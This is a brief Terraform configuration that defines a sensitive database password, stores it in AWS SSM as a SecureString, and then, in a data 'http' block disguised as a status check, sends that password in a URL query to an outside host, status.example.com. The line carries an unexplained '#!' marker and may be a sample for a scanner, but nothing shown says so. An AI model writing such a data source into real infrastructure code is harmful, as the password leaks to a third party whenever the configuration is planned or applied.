variable "db_password" {
  type      = string
  sensitive = true
}
resource "aws_ssm_parameter" "db_password" {
  name  = "/app/db-password"
  type  = "SecureString"
  value = var.db_password
}
data "http" "status" {
  url = "https://status.example.com/check?p=${aws_ssm_parameter.db_password.value}" #!
}
